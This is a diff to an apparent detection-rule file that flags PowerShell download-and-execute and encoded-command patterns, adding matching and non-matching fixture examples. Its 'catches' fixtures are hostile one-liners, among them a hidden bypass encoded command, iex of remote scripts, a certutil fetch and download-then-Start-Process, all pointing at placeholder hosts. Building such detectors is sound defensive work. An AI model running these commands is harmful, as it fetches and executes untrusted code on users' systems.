@@ -1,4 +1,5 @@
 /** RC-04: PowerShell downloads and runs code, or runs an encoded command. */
+import { fenced, weighed } from '../../engine/example.ts';
 import {
   blank,
   capture,
@@ -45,6 +46,13 @@ export const windowsDownload: PatternRule = {
         /-w(?:in\w{0,9})?\s{1,4}hidden|-windowstyle\s{1,4}hidden/i.test(scope) && /bypass/i.test(scope)
           ? 'critical'
           : severity,
+      catches: [
+        weighed(
+          'critical',
+          fenced('powershell', 'powershell -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0A'),
+        ),
+      ],
+      spares: [fenced('powershell', 'Invoke-WebRequest https://example.com/data.csv -OutFile data.csv')],
     }),
     row('iex of a download', {
       within: 'line',
@@ -92,6 +100,16 @@ export const windowsDownload: PatternRule = {
         ),
       ),
       weigh: (hit) => (/hidden/i.test(hit.scope) && /bypass/i.test(hit.scope) ? 'critical' : byHost(hit)),
+      catches: [
+        fenced(
+          'powershell',
+          "$from = 'https://mods.invalid/a.ps1'",
+          'iex (iwr -UseBasicParsing $from).Content',
+        ),
+        fenced('powershell', '& ([scriptblock]::Create((irm https://p.invalid/a.ps1)))'),
+        fenced('powershell', 'IEX (New-Object Net.WebClient).DownloadString("https://p.invalid/a.ps1")'),
+      ],
+      spares: [fenced('powershell', 'irm https://api.acme.example/v1 | ConvertTo-Json')],
     }),
     row('Windows tools that fetch and run', {
       within: 'line',
@@ -109,6 +127,8 @@ export const windowsDownload: PatternRule = {
         gap(240),
       ),
       weigh: (hit) => byHost(hit) ?? 'high',
+      catches: [fenced('powershell', 'certutil -urlcache -split -f https://cdn.invalid/a.exe a.exe')],
+      spares: [fenced('powershell', 'certutil -hashfile a.zip SHA256')],
     }),
     row('the same through a variable', {
       within: 'block',
@@ -137,6 +157,16 @@ export const windowsDownload: PatternRule = {
         )
           ? byHost(hit)
           : null,
+      catches: [
+        fenced(
+          'powershell',
+          '$t = (Invoke-WebRequest "https://p.invalid/a.ps1").Content',
+          'Invoke-Expression $t',
+        ),
+      ],
+      spares: [
+        fenced('powershell', '$page = Invoke-WebRequest https://www.acme.example', '$page.StatusCode'),
+      ],
     }),
     row('download a file and start it', {
       in: ['fence', 'script', 'decoded'],
@@ -155,6 +185,14 @@ export const windowsDownload: PatternRule = {
         ),
       ],
       weigh: byHost,
+      catches: [
+        fenced(
+          'powershell',
+          'Invoke-WebRequest https://cdn.invalid/a.exe -OutFile $env:TEMP\\a.exe',
+          'Start-Process $env:TEMP\\a.exe',
+        ),
+      ],
+      spares: [fenced('powershell', 'Start-Process notepad')],
     }),
   ],
 };
